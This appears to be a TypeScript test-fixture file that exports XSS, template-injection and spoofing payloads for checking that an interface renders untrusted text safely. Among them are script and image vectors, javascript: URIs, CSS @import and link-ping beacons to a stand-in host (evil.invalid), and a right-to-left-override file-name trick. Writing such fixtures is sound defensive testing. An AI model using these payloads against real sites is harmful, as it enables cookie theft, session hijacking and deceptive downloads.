/** Texts that would run, load or lie if anything took them for more than text. No such host exists. */
export const PAYLOADS = [
  `<img src=x onerror="window.__xss=1;fetch('//evil.invalid/')">`,
  '<svg/onload=alert(1)>',
  '"><script src=https://evil.invalid/x.js></script>',
  '</p></div><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  'javascript:alert(document.cookie)//',
  'data:text/html,<script>alert(1)</script>',
  '[看这里](javascript:alert(1)) ![图](https://evil.invalid/x.png)',
  `{{constructor.constructor('window.__xss=1')()}} \${window.__xss=1} <%= 7*7 %> #{7*7}`,
  '$t(common.retry) {{name}} {{- name}} %s',
  `<style>@import 'https://evil.invalid/x.css';*{display:none}</style>`,
  '<a href="https://evil.invalid/" ping="https://evil.invalid/">安全链接</a>',
  '&lt;b&gt;&#60;script&#62;alert(1)&lt;/script&gt;',
  '发票\u202Egnp.exe',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
] as const;

/** The short ones, for names and tags. */
export const NAME = '<svg/onload=alert(1)>';
export const TAG = '<img src=x onerror=alert(2)>';
